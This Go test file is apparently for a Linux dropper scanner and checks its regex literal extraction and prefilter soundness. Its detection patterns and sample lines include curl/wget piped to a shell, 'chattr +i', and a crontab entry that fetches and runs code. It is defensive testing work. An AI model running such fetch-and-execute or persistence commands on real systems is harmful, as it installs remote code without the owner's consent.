package linux

import (
	"strings"
	"testing"
)

func TestRequiredLiterals(t *testing.T) {
	for _, c := range []struct {
		pattern string
		want    []string // nil: no filter
	}{
		{`\bcurl\b.*\|\s*sh`, []string{"curl"}},
		{`(curl|wget)\s+-o`, []string{"curl", "wget"}},
		{`(curl|\S+)x`, []string{"x"}},
		{`[A-Z]+\d*`, nil},
		{`(a)?b?`, nil},
		{`chattr\s+[+-]i`, []string{"chattr"}},
		{`\x3bkill`, []string{";kill"}},
	} {
		got := requiredLiterals(c.pattern)
		if strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("%s: %q, want %q", c.pattern, got, c.want)
		}
	}
}

// TestPrefilterIsSound: every line a behaviour's expression matches passes
// its literal filter, over the real behaviours and every script the tests
// know (a filter that drops a match would hide a dropper).
func TestPrefilterIsSound(t *testing.T) {
	var texts []string
	for _, c := range dropperCases {
		texts = append(texts, c.text)
	}
	texts = append(texts, "WGET http://x/a | SH", "CuRl -fsSL x|bash", "echo '* * * * * curl x|sh' >> /etc/crontab")
	checked := 0
	for _, text := range texts {
		for _, l := range shellLines([]byte(text)) {
			lower := strings.ToLower(l.Text)
			for _, b := range dropperSigs().behaviours {
				if b.Re.MatchString(l.Text) {
					checked++
					if !mayMatch(b.lits, lower) {
						t.Errorf("%s matches %q but its filter %q drops it", b.Name, l.Text, b.lits)
					}
				}
			}
		}
	}
	if checked < 10 {
		t.Fatalf("only %d matches checked: the corpus does not exercise the behaviours", checked)
	}
}
